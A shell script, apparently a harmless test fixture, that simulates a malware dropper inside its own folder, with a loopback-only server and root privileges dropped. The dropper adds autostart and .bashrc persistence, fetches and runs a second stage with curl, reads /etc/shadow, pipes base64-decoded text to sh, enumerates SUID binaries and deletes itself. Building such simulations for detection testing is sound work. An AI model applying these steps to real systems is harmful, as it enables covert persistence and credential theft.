# Behaves like a dropper and does no harm: all that it changes is in its own folder, and it
# talks to loopback only. It gives up root first, so that the secrets of the machine are
# refused to it.
mkdir -p www .config .cache && printf '# a shell\n' >.bashrc
printf '#!/bin/sh\nid >"$HOME/.cache/id"\nsleep 0.2\n' >www/stage2
python3 -S -m http.server --bind 127.0.0.1 --directory www 39580 >/dev/null 2>&1 &
until python3 -S -c 'import socket; socket.create_connection(("127.0.0.1", 39580))' 2>/dev/null; do sleep 0.1; done
cat >dropper <<'DROPPER'
#!/bin/bash
mkdir -p "$HOME/.config/autostart"
printf '[Desktop Entry]\nType=Application\nName=Updates\nExec=%s\n' "$HOME/.cache/.x11" >"$HOME/.config/autostart/updates.desktop"
echo '(~/.cache/.x11 &) # updates' >>"$HOME/.bashrc"
curl -s -o "$HOME/.cache/.x11" http://127.0.0.1:39580/stage2
chmod +x "$HOME/.cache/.x11"
"$HOME/.cache/.x11"
cat /etc/shadow
echo ZWNobyBoZWxsbyA+fi8uY2FjaGUvcHJvb2Y= | base64 -d | sh
python3 -S -c 'import socket
for address in ("127.0.0.1", 39580), ("127.0.0.1", 39581):
    try: socket.create_connection(address, 1).close()
    except OSError: pass
try: socket.getaddrinfo("update.example", 80)
except OSError: pass'
find /usr/bin /usr/sbin /etc -perm -4000 -type f 2>/dev/null | head -n 20 >"$HOME/.cache/suid"
rm -- "$0"
exit 3
DROPPER
chmod +x dropper && chown -R 65534:65534 . && chmod 755 .
setpriv --reuid=65534 --regid=65534 --clear-groups ./dropper 2>/dev/null || [ $? = 3 ]
